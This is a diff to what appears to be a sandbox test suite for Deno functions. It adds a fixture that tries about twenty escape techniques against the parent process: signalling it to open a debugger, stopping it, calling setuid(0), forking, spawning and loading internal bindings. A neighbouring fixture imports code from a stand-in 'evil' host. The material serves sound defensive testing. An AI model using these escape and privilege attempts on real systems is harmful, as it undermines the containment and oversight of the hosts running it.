@@ -87,6 +87,44 @@ const sources: Record<string, string> = {
   'fetches/index.ts': `import 'https://example.com/evil.ts';`,
   'open/index.ts': `Deno.serve(() => new Response('for anyone'));`,
   'off/index.ts': `Deno.serve(() => new Response('never'));`,
+  'escapes/index.ts': `
+    import { ChildProcess, fork } from 'node:child_process';
+    import { createRequire } from 'node:module';
+    import os, { setPriority } from 'node:os';
+    import { setFlagsFromString } from 'node:v8';
+    import { open as inspect, Session } from 'node:inspector';
+    import { Worker } from 'node:worker_threads';
+    const require = createRequire(import.meta.url);
+    const attempts: Record<string, (folder: string) => unknown> = {
+      inspectServer: () => process.kill(process.ppid, 'SIGUSR1'),
+      inspectByNumber: () => process._kill(process.ppid, 10) || 'signalled',
+      inspectGroup: () => process.kill(-process.ppid, 'SIGUSR1'),
+      inspectAsText: () => process.kill(String(process.ppid) as never, 'SIGUSR1'),
+      debug: () => process._debugProcess(process.ppid),
+      stopServer: () => process.kill(process.ppid, 'SIGSTOP'),
+      slowServer: () => setPriority(process.ppid, 19),
+      slowServerToo: () => os.setPriority(process.ppid, 19),
+      sqlite: (folder) => new (require('node:sqlite').DatabaseSync)(folder + '/written').exec('create table t (a)'),
+      sqliteBuiltin: (folder) => new (process.getBuiltinModule('node:sqlite').DatabaseSync)(folder + '/written').exec('create table t (a)'),
+      flags: () => setFlagsFromString('--trace-turbo'),
+      binding: () => process.binding('spawn_sync'),
+      internal: () => process._linkedBinding('fs'),
+      worker: () => new Worker('1', { eval: true, execArgv: [] }),
+      fork: () => fork('x.js'),
+      handle: () => new ChildProcess().spawn({ file: '/bin/true', args: ['true'] }),
+      inspector: () => inspect(0),
+      session: () => new Session().connect(),
+      user: () => process.setuid(0),
+      message: () => process.send({ cmd: 'NODE_HANDLE_ACK' }),
+    };
+    Deno.serve(async (request: Request) => {
+      const { folder } = await request.json();
+      const done = {};
+      for (const [name, attempt] of Object.entries(attempts)) {
+        try { done[name] = String(attempt(folder)); } catch (error) { done[name] = error.code ?? error.name; }
+      }
+      return Response.json({ done, user: process.getuid(), server: process.ppid });
+    });`,
   'nosy/index.ts': `
     import { readFileSync, writeFileSync } from 'node:fs';
     import { spawnSync } from 'node:child_process';
